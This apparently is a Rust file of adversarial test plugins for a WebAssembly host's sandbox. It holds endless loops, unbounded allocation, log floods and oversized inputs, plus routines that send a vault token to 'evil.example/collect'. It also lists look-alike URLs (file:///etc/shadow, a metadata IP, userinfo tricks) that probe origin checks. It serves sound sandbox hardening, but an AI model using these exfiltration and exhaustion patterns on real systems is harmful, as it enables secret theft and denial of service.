//! What a plugin of any kind can do that none should: alone, and with what the host lends to all kinds. The guests of
//! all kinds are compiled with this file.

use davit_plugin_sdk::{
    Error, Result,
    host::{clock, http, log, secrets, state},
};
use std::hint::black_box;

const GRANTED: &str = "https://vault.example";
/// Granted for GET alone, with a secret that is for it alone.
const READER: &str = "https://reader.example";
/// None of these is the origin that was granted, however much it looks like it.
const LOOK_ALIKES: [&str; 8] = [
    "http://vault.example/v1",
    "https://vault.example:8443/v1",
    "https://vault.example.evil.example/v1",
    "https://vault.example@evil.example/v1",
    "https://evil.example\\@vault.example/v1",
    "https://evil.example/?https://vault.example",
    "file:///etc/shadow",
    "https://169.254.169.254/latest",
];

/// Does what is called so; none where that is no behaviour of every kind.
pub(crate) fn common(name: &str) -> Option<Result<()>> {
    Some(match name {
        "endless-loop" => loop_for_ever(),
        "endless-host-calls" => loop_in_host_calls(),
        "allocate" => allocate_without_end(),
        "panic" => panic!("on purpose"),
        "recurse" => {
            black_box(recurse(1));
            Ok(())
        }
        "recurse-thin" => {
            black_box(recurse_thin(0, clock::now_ms()));
            Ok(())
        }
        "oversized-error" => Err(Error::Other("x".repeat(3 << 20))),
        "oversized-argument" => {
            log::write(log::Level::Info, &"x".repeat(6 << 20));
            Ok(())
        }
        "million-handles" => {
            let kept: Vec<_> = (0..1_000_000).map(|_| http::Request::new("GET", "https://a")).collect();
            black_box(kept.len());
            Ok(())
        }
        "hoard-requests" => hoard(|request| request.body(&vec![b'x'; 1 << 20])),
        "hoard-headers" => hoard(|request| (0..64).try_for_each(|_| request.header("x", &"x".repeat(8 << 10)))),
        "oversized-url" => ask(&format!("{GRANTED}/{}", "x".repeat(3 << 20))),
        "sleep-in-wasi" => {
            wasi::sleep();
            Ok(())
        }
        "oversized-random" => {
            wasi::random();
            Ok(())
        }
        "million-requests" => (0..1_000_000).try_for_each(|_| ask(&format!("{GRANTED}/v1"))),
        "fail" => Err(Error::Internal("always broken".to_owned())),
        "fail-otherwise" => Err(Error::Other("something is the matter".to_owned())),
        "refuse" => Err(Error::Denied("not today".to_owned())),
        "unsteady" => Err(Error::Conflict(format!("it is {} now", clock::monotonic_ns()))),
        "panic-where-the-host-fails" => match state::get("key") {
            Ok(_) => Ok(()),
            Err(error) => panic!("{error:?}"),
        },
        "log-flood" => {
            for n in 0..20_000 {
                log::write(log::Level::Info, &format!("line {n} of a flood that nobody asked for"));
            }
            Ok(())
        }
        "block-in-state" => drop_value(state::get("stuck")),
        "block-in-secrets" => drop_value(secrets::named("stuck")),
        "block-in-http" => ask(&format!("{GRANTED}/stuck")),
        "ask-state" => drop_value(state::get("key")),
        "ask-secret" => drop_value(secrets::named("vault-token")),
        "ask-other-secret" => drop_value(secrets::named("root-password")),
        "ask-stored" => drop_value(secrets::stored("registry.example")),
        "ask-http" => ask(&format!("{GRANTED}/v1")),
        "ask-other-http" => ask("https://evil.example/v1"),
        "ask-look-alikes" => ask_look_alikes(),
        "wrong-method" => drop_value(http::Request::new("POST", &format!("{READER}/v1")).send()),
        "leak-secret" => leak("vault-token", "https://evil.example/collect"),
        "secret-to-another-origin" => leak("reader-token", &format!("{GRANTED}/collect")),
        "leak-secret-in-form" => leak_in_form("https://evil.example/collect"),
        "read-guarded" => read_guarded(),
        "write-state" => write_state(),
        "write-state-and-fail" => match state::swap("lost", None, Some(b"1")) {
            Ok(_) => Err(Error::Conflict("changed my mind".to_owned())),
            Err(error) => Err(error),
        },
        "write-without-end" => (0_u64..).try_for_each(|n| write(&n.to_string(), 1)),
        "oversized-value" => write("key", 2 << 20),
        "oversized-key" => write(&"x".repeat(300), 1),
        _ => return None,
    })
}

/// Keeps a thousand requests, which stand behind handles: their bytes are the host's.
fn hoard(filled: impl Fn(&http::Request) -> Result<()>) -> Result<()> {
    let mut kept = Vec::new();
    for _ in 0..1000 {
        let request = http::Request::new("POST", "https://a");
        filled(&request)?;
        kept.push(request);
    }
    black_box(kept.len());
    Ok(())
}

/// What runtimes of languages import beside the contract.
mod wasi {
    #![allow(missing_docs, unsafe_code, missing_debug_implementations, unreachable_pub, reason = "generated")]

    wit_bindgen::generate!({
        inline: "
            package davit:guest;
            world beside { import wasi:clocks/monotonic-clock@0.2.0; import wasi:random/random@0.2.0; }
            package wasi:io@0.2.0 { interface poll { resource pollable { block: func(); } } }
            package wasi:clocks@0.2.0 {
                interface monotonic-clock {
                    use wasi:io/poll@0.2.0.{pollable};
                    subscribe-duration: func(when: u64) -> pollable;
                }
            }
            package wasi:random@0.2.0 { interface random { get-random-bytes: func(len: u64) -> list<u8>; } }
        ",
        generate_all,
    });

    /// An hour.
    pub(super) fn sleep() {
        self::wasi::clocks::monotonic_clock::subscribe_duration(3_600_000_000_000).block();
    }

    /// A gigabyte, which the host would have to make.
    pub(super) fn random() {
        std::hint::black_box(self::wasi::random::random::get_random_bytes(1 << 30));
    }
}

fn drop_value<T>(result: Result<T>) -> Result<()> {
    result.map(drop)
}

fn loop_for_ever() -> Result<()> {
    let mut n = 0u64;
    loop {
        n = black_box(n.wrapping_add(1));
    }
}

fn loop_in_host_calls() -> Result<()> {
    loop {
        black_box(clock::now_ms());
    }
}

fn allocate_without_end() -> Result<()> {
    let mut kept: Vec<Vec<u8>> = Vec::new();
    loop {
        kept.push(black_box(vec![1; 1 << 20]));
    }
}

#[allow(unconditional_recursion, reason = "that is the point")]
fn recurse(n: u64) -> u64 {
    let here = black_box([n; 64]);
    recurse(here.iter().sum::<u64>().wrapping_add(n)).wrapping_add(here.len() as u64)
}

/// Keeps nothing in linear memory, so that only the host's own stack grows.
#[inline(never)]
fn recurse_thin(n: u64, end: u64) -> u64 {
    if n == end { 1 } else { recurse_thin(n + 1, end).rotate_left(3) ^ n }
}

fn ask(url: &str) -> Result<()> {
    drop_value(http::Request::new("GET", url).send())
}

fn ask_look_alikes() -> Result<()> {
    let mut said = Ok(());
    for url in LOOK_ALIKES {
        said = ask(url);
        if !matches!(said, Err(Error::Denied(_) | Error::Invalid(_))) {
            return Err(Error::Other(format!("{url} was let through")));
        }
    }
    said
}

fn leak(name: &str, url: &str) -> Result<()> {
    let secret = secrets::named(name)?;
    let request = http::Request::new("POST", url);
    request.bearer(&secret)?;
    drop_value(request.send())
}

fn leak_in_form(url: &str) -> Result<()> {
    let request = http::Request::new("POST", url);
    request.form_secret("token", &secrets::named("vault-token")?)?;
    drop_value(request.send())
}

fn read_guarded() -> Result<()> {
    let secret = secrets::named("vault-token")?;
    let request = http::Request::new("GET", &format!("{GRANTED}/token"));
    request.bearer(&secret)?;
    let response = request.send()?;
    for read in [drop_value(response.body()), drop_value(response.json("/token")), drop_value(response.json(""))] {
        if !matches!(read, Err(Error::Denied(_))) {
            return Err(Error::Other("a secret could be read".to_owned()));
        }
    }
    if response.header("x-token").is_some() || response.json("/expires_in")? != Some("300".to_owned()) {
        return Err(Error::Other("the wrong things are open".to_owned()));
    }
    drop_value(response.take_secret("/token"))
}

fn write_state() -> Result<()> {
    let seen = state::get("count")?;
    state::swap("count", seen.as_deref(), Some(b"1"))?;
    match state::get("count")?.as_deref() {
        Some(b"1") => Ok(()),
        _ => Err(Error::Other("a call does not see its own write".to_owned())),
    }
}

fn write(key: &str, bytes: usize) -> Result<()> {
    drop_value(state::swap(key, None, Some(&vec![1; bytes])))
}
